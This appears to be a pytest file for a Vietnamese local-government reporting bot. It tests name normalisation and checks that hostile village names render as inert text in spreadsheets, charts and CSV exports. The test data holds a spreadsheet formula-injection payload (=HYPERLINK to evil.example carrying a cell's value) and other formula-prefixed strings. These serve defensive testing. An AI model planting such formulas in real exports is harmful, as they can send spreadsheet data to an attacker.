"""Issue 11, item 2: names are data, never code.

Unit names are normalised when saved (chat, CSV import, display names), and each renderer is
safe on its own: the hostile names here are written straight into the database, bypassing the
normalisation, and the .xlsx, the chart, the CSV and the report jobs must still come out right.
Before: a control character made openpyxl raise IllegalCharacterError, "Thôn $\\x$" broke
matplotlib's mathtext, "=HYPERLINK(…)" became a live formula, and the daily period_reports job
stopped at the first commune that failed, so every other commune got nothing.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from bot.domain.app import App
from bot.domain.clock import FixedClock
from bot.domain.i18n import translator
from bot.domain.messages import Incoming, Kind
from bot.domain.parsing import fold
from bot.domain.periods import Period
from bot.domain.text import clean_name, clean_text
from bot.messaging.digest import send_weekly_digest
from bot.messaging.report_delivery import send_period_reports
from bot.reports.aggregate import Compiled
from bot.reports.compiled import compile_unit, render
from bot.services.actor import CONSOLE
from bot.services.units import (
    BadVillageName,
    add_village,
    import_villages_csv,
    rename_village,
)
from storage.db import Database
from storage.models import COMMUNE, COMMUNE_OFFICER, VILLAGE, Unit
from tests.support import Tree, make_app, make_contact, seed_tree
from tests.test_reports_helpers import files_of, outbox_to, submit, vn

H1 = Period.parse("2026-H1")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
# What each database can hold at all (PostgreSQL refuses NUL in text): the rest of C0 and C1.
CONTROLS = "\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x85"
HOSTILE = [
    FORMULA,
    "Thôn $\\x$ và $\\frac{",
    f"Thôn{CONTROLS}Bảy",
    "+SUM(1,2)",
    "-1+1",
    "@cmd",
    "#REF!",
]


@pytest.fixture
async def app(db: Database) -> AsyncIterator[App]:
    app = make_app(db.url, FixedClock(vn(2026, 6, 16, 8, 30)))
    try:
        yield app
    finally:
        await app.db.dispose()


async def raw_unit(app: App, parent: Unit, name: str, kind: str = VILLAGE) -> Unit:
    """A unit written as it is, without the normalisation of bot.services.units."""
    async with app.uow() as uow:
        unit = await uow.units.add(
            Unit(
                kind=kind, name=name, name_folded=fold(name), parent_id=parent.id, created_at=app.clock.now()
            )
        )
        await uow.commit()
    return unit


async def hostile_commune(app: App, tree: Tree) -> list[Unit]:
    villages = [await raw_unit(app, tree.commune, name) for name in HOSTILE]
    for n, village in enumerate(villages):
        await submit(app, village, "2026-H1", vn(2026, 6, 10), households_total=100, lf_recognized=10 * n)
    return villages


async def compiled(app: App, unit: Unit) -> Compiled:
    async with app.read_only() as reads:
        return await compile_unit(
            reads, unit, H1, content_dir=app.content_dir, forms=app.forms, now=app.clock.now()
        )


# --------------------------------------------------------------------------- normalisation


def test_clean_name() -> None:
    decomposed = unicodedata.normalize("NFD", "Thôn Nà Rụa")
    assert decomposed != "Thôn Nà Rụa"
    assert clean_name(decomposed) == "Thôn Nà Rụa"  # NFC: the same name matches the same row
    assert clean_name(f"  Thôn\t{CONTROLS}\x00 Bảy\n") == "Thôn Bảy"
    assert clean_name("Thôn \u202eyaB\u202c \u200bMới") == "Thôn yaB Mới"  # bidi overrides, zero width
    assert clean_name("Thôn \ud800Một") == "Thôn Một"  # a lone surrogate
    assert clean_name("x" * 300, 255) == "x" * 255
    assert clean_text("dòng 1\ndòng\x002\ud83d") == "dòng 1\ndòng2"  # text keeps its line breaks


async def test_villages_are_normalised_in_chat_and_on_rename(app: App) -> None:
    tree = await seed_tree(app)
    now = app.clock.now()
    async with app.uow() as uow:
        added = await add_village(uow, CONSOLE, tree.commune, f" Thôn{CONTROLS}\u202e Mười ", VILLAGE, now)
        assert added.name == "Thôn Mười"
        renamed = await rename_village(
            uow, CONSOLE, added, unicodedata.normalize("NFD", "Thôn Mười Một"), now
        )
        assert renamed.name == "Thôn Mười Một" and unicodedata.is_normalized("NFC", renamed.name)
        with pytest.raises(BadVillageName):
            await add_village(uow, CONSOLE, tree.commune, "\x01\u200b\x7f", VILLAGE, now)
        with pytest.raises(BadVillageName):
            await add_village(uow, CONSOLE, tree.commune, "Thôn " + "A" * 120, VILLAGE, now)
        await uow.commit()


async def test_the_csv_import_normalises_names(app: App, tmp_path: Path) -> None:
    await seed_tree(app)
    path = tmp_path / "villages.csv"
    nfd = unicodedata.normalize("NFD", "Thôn Khuổi Nặm")
    path.write_text(f'commune_code,village_name,kind\n01273,"{nfd}\x07\u202e",thôn\n01273,"\x01\x02",thôn\n')
    async with app.uow() as uow:
        result = await import_villages_csv(uow, path, app.clock.now())
        await uow.commit()
    assert result.inserted == 1 and len(result.errors) == 1 and "line 3" in result.errors[0]
    async with app.uow() as uow:
        commune = await uow.units.by_code("01273")
        assert commune is not None
        names = [u.name for u in await uow.units.children(commune.id, (VILLAGE,))]
    assert "Thôn Khuổi Nặm" in names


async def test_a_display_name_is_kept_as_a_name(app: App) -> None:
    await app.handle(
        Incoming("test", "p1", Kind.TEXT, text="/start", display_name="An\x00\x07 \u202eBình\ud800")
    )
    async with app.uow() as uow:
        (name,) = (await uow.session.execute(text("SELECT display_name FROM contacts"))).scalars()
    assert name == "An Bình"


# --------------------------------------------------------------------------- renderers


def _cells(data: bytes) -> list[Any]:
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    return [cell for row in ws.iter_rows() for cell in row]


async def test_the_xlsx_writes_hostile_names_as_text(app: App) -> None:
    tree = await seed_tree(app)
    await hostile_commune(app, tree)
    c = await compiled(app, tree.commune)
    (xlsx,) = render(c, translator("vi"), ["xlsx"])
    cells = _cells(xlsx.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in (FORMULA, "+SUM(1,2)", "-1+1", "@cmd", "#REF!"):
        cell = by_value[name]
        assert cell.data_type == "s" and cell.quotePrefix, name  # stays text when edited in Excel
    assert "ThônBảy" in by_value  # control characters dropped, the rest of the name kept
    assert "Thôn $\\x$ và $\\frac{" in by_value


async def test_the_chart_draws_hostile_names_as_plain_text(app: App) -> None:
    tree = await seed_tree(app)
    await hostile_commune(app, tree)
    commune = await raw_unit(app, tree.province, "Xã $\\x$\x01", COMMUNE)
    await raw_unit(app, commune, "Thôn $\\sqrt{$")
    for unit in (tree.commune, commune, tree.province):
        charts = render(await compiled(app, unit), translator("en"), ["png"])
        assert len(charts) == 4 and all(png.data.startswith(b"\x89PNG") for png in charts)


async def test_the_csv_escapes_names_against_formula_injection(app: App) -> None:
    tree = await seed_tree(app)
    await hostile_commune(app, tree)
    (data,) = render(await compiled(app, tree.commune), translator("en"), ["csv"])
    names = [row["unit_name"] for row in csv.DictReader(io.StringIO(data.data.decode("utf-8")))]
    assert "'" + FORMULA in names and "'+SUM(1,2)" in names and "'-1+1" in names and "'@cmd" in names
    assert "ThônBảy" in names and "#REF!" in names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@"))]


# --------------------------------------------------------------------------- the jobs


async def _officers(app: App, tree: Tree) -> Unit:
    """Officers of three communes: the hostile one, a healthy one, and one with broken data."""
    broken = await raw_unit(app, tree.province, "Xã Hỏng", COMMUNE)
    village = await raw_unit(app, broken, "Thôn Hỏng")
    await submit(app, village, "2026-H1", vn(2026, 6, 10), households_total=10)
    # A unit whose stored place in the tree is corrupt: its report cannot be compiled.
    async with app.uow() as uow:
        await uow.session.execute(
            text("UPDATE units SET path = :p WHERE id = :i"),
            {"p": f"{tree.province.path}x{broken.id}/", "i": broken.id},
        )
        await uow.commit()
    # The broken commune's officer comes first: before, the job stopped at them.
    await make_contact(app, "broken-officer", COMMUNE_OFFICER, broken)
    await make_contact(app, "hostile-officer", COMMUNE_OFFICER, tree.commune)
    await make_contact(app, "healthy-officer", COMMUNE_OFFICER, tree.other_commune)
    await submit(app, tree.other_village, "2026-H1", vn(2026, 6, 10), households_total=80, lf_recognized=20)
    return broken


async def test_the_period_reports_job_skips_a_failing_unit_and_serves_everyone_else(
    app: App, caplog: pytest.LogCaptureFixture
) -> None:
    tree = await seed_tree(app)
    await hostile_commune(app, tree)
    broken = await _officers(app, tree)
    assert await send_period_reports(app) == 2
    assert await outbox_to(app, "broken-officer") == []
    assert f"unit {broken.id}" in caplog.text  # logged, with the unit, not the name
    (hostile,) = await outbox_to(app, "hostile-officer")
    assert "Phường Thục Phán" in hostile["text"]
    files = await files_of(app, hostile)
    assert files["png"].startswith(b"\x89PNG")
    assert not [c for c in _cells(files["xlsx"]) if c.data_type == "f"]
    (healthy,) = await outbox_to(app, "healthy-officer")
    assert "Xã Trường Hà" in healthy["text"]


async def test_the_weekly_digest_skips_a_failing_unit(app: App) -> None:
    tree = await seed_tree(app)
    await hostile_commune(app, tree)
    await _officers(app, tree)
    clock = app.clock
    assert isinstance(clock, FixedClock)
    clock.set(vn(2026, 6, 15, 7))  # a Monday, while 2026-H1 is open
    assert await send_weekly_digest(app) == 2
    assert await outbox_to(app, "broken-officer") == []
    (hostile,) = await outbox_to(app, "hostile-officer")
    assert "Thôn $\\x$" in hostile["text"]
    assert len(await outbox_to(app, "healthy-officer")) == 1
